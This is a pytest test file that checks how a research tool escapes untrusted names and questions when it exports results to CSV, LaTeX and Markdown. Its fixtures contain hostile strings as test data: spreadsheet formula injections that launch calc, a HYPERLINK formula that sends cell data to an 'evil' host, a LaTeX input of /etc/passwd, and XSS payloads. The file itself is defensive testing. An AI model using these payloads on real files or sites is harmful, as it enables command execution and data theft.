"""Names and texts that mean harm in what is handed on: spreadsheets, LaTeX, Markdown, figures."""

from __future__ import annotations

import csv
import dataclasses
import io
import math
import re
from pathlib import Path

import pytest
import study_samples

from lvlm_probe.escaping import csv_cell, markdown_text, tex_text
from lvlm_probe.importing.meter import Unread, read_answer, write_csv
from lvlm_probe.metrics import Interval
from lvlm_probe.study.results import Results
from lvlm_probe.study.tables.document import document
from lvlm_probe.study.tables.export import export
from lvlm_probe.study.tables.figure5 import figure5
from lvlm_probe.study.tables.paper import make_table
from lvlm_probe.study.tables.table import Table

FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "-1e",
    "--1",
    "=",
    "+",
)
PLAIN = ("-5", "+3.5", "-1,000", "-.5", "1e-3", "-5 %", "+0.512 ± 0.003", "red", "", "a=b", "it's", "'=1")
NAMES = (
    "d\n\\input{/etc/passwd}\n%",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "a | b",
    "=1+1",
    "[x](javascript:alert(1))",
    "![x](http://evil/x.png)",
    "`code`",
    "$\\nope",
    "~~~",
    "# title",
    "^^5cinput",
    "\\end{tabular}",
    "{",
    "&lt;",
    "a\r\u2028b\u2029c",
    "[1pt]",
    "*",
    "\x00\x1b[2J",
)


NUMBER = r"[-+]?[\d.,]+(e[-+]?\d+)?( ?%| ± [\d.]+)?"


def is_formula(cell: str) -> bool:
    """What a spreadsheet would compute."""
    return re.match(r"[\s\ufeff]*[=+\-@＝＋－＠]|[\t\r]", cell) is not None and not re.fullmatch(NUMBER, cell)


def test_cells_of_csv() -> None:
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text.replace("\r", "\n")
        assert csv_cell(csv_cell(text)) == csv_cell(text)
        assert not is_formula(csv_cell(text)) and is_formula(text)
    for cell in (*PLAIN, -5, -0.5, 1.5, None, True, math.inf):
        assert csv_cell(cell) == cell
    csv_cell("\ud800").encode("utf-8")
    assert csv_cell("a\r=1+1\r\nb") == "a\n=1+1\nb", "a row does not end inside of a cell"


def test_texts_of_latex_and_markdown() -> None:
    assert tex_text("100 % of_x & {y} \\ ~ ^ # $") == (
        r"100 \% of\_x \& \{y\} \textbackslash{} \textasciitilde{} \textasciicircum{} \# \$"
    )
    assert tex_text("a\nb\rc\u2028d\x00e\x1bf") == "a b c def"
    assert markdown_text("<b> & [x](y) `c` a|b \\") == r"&lt;b&gt; &amp; \[x\](y) \`c\` a\|b " + "\\\\"
    assert markdown_text("# a\nb") == r"\# a b"
    assert markdown_text("-5 %") == "-5 %"
    for text in ("igos++", "vqa_hat", "insertion − deletion", "ρ = 0.5 ± 0.1, p < 5".replace("<", "≤")):
        assert markdown_text(text) == text


def names(columns: int) -> Table:
    cells = tuple(
        (name, *(Interval(0.5, 0.4, 0.6, 0.95, 3) if place else -0.25 for place in range(columns - 1)))
        for name in NAMES
    )
    return Table("names", NAMES[0], ("name", *NAMES[1:columns]), cells, notes=NAMES)


def test_a_table_in_every_form(tmp_path: Path) -> None:
    table = names(5)
    lines = table.latex().split("\n")
    start = lines.index(r"\begin{tabular}{lrrrr}")
    assert all(line.startswith(("% ", "\\")) for line in lines[:start])
    assert lines[start + 1] == r"\toprule" and lines[-4:] == [r"\bottomrule", r"\end{tabular}", r"\end{table}", ""]
    body = lines[start + 2 : -4]
    assert len(body) == len(NAMES) + 2
    assert all(
        line.endswith(r" \\") and not line.startswith(("[", "*", "(", "\\input")) for line in body if "rule" not in line
    )
    assert all(len(re.findall(r"(?<!\\)&", line)) == 4 for line in body if "rule" not in line)
    assert not re.search(r"\\(input|end|nope)", "\n".join(body))
    text = table.markdown()
    pipes = [line for line in text.split("\n") if line.startswith("|")]
    assert len(pipes) == len(NAMES) + 2
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 6 for line in pipes)
    assert not re.search(r"<(script|img)|(?<!\\)\]\(|\x1b|\x00|(?<!\\)`", text)
    assert not re.search(r"^(#|~~~)", text, flags=re.MULTILINE)
    rows = list(csv.reader(io.StringIO(table.csv())))
    assert not [cell for row in rows for cell in row if is_formula(cell)]
    assert "-0.25" in rows[1]
    made = table.write(tmp_path)
    assert [path.suffix for path in made] == [".md", ".csv", ".tex", ".pdf", ".png", ".pdf", ".svg"]


@pytest.fixture
def hostile_results(tmp_path: Path) -> Results:
    return study_samples.results(
        tmp_path, 3, models=NAMES[:3], methods=(NAMES[3], NAMES[4]), question="=cmd|'/C calc'!A0 <script> {n}"
    )


def test_a_study_that_is_handed_on(hostile_results: Results, tmp_path: Path) -> None:
    export(hostile_results, tmp_path / "out")
    for name in ("answers.csv", "maps.csv"):
        with (tmp_path / "out" / name).open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if is_formula(cell)]
        assert "'=cmd|'/C calc'!A0 <script> 0" in cells or name == "maps.csv"
    tex = make_table(hostile_results, "2").latex()
    assert not [line for line in tex.split("\n") if line.lstrip().startswith("\\input")]


def test_a_document_holds_no_tag_of_a_name(hostile_results: Results) -> None:
    study = dataclasses.replace(hostile_results.study, name="<b>" + NAMES[1], about=NAMES[2] + " ~~~ `x`")
    maps = tuple(
        {**record, "passes": {"forward": 1, "backward": 0}, "measured": {"seconds": 1.0}}
        for record in hostile_results.maps
    )
    made = dataclasses.replace(hostile_results, study=study, maps=maps)
    text = document(made, command="x `<script>`")
    ours = re.sub(r"</?(details|summary)>", "", text)
    assert not re.search(r"<[a-zA-Z/!]", ours)
    assert "&lt;script&gt;" in text
    assert not [line for line in text.split("\n") if line.startswith("\\input")]


def test_judgements_made_in_an_exported_csv_are_found_again(hostile_results: Results, tmp_path: Path) -> None:
    export(hostile_results, tmp_path / "out")
    with (tmp_path / "out" / "maps.csv").open(encoding="utf-8", newline="") as file:
        rows = [{**row, "plausible": "1"} for row in csv.DictReader(file)]
    with (tmp_path / "judged.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert "Without a judgement: 0 maps" in figure5(hostile_results, tmp_path / "judged.csv").notes[0]


def test_the_meters_csv(tmp_path: Path) -> None:
    readings = [
        read_answer(
            [text, " red"],
            [False, False],
            [-1.0, -2.0],
            [0.5, -3.0],
            source="a.jsonl, line 1",
            id=text,
            question=text,
            baseline="blur",
        )
        for text in (*FORMULAS, "plain", "\ud800")
    ]
    write_csv(readings, tmp_path / "m.csv", unread=[Unread("=1+1", "@SUM(1)")])
    with (tmp_path / "m.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert not [cell for row in rows for cell in row.values() if is_formula(cell)]
    assert rows[0]["question"] == f"'{FORMULAS[0]}"
    assert float(rows[0]["mean_llr"]) < 0, "numbers stay numbers"
    assert rows[-1]["source"] == "'=1+1"
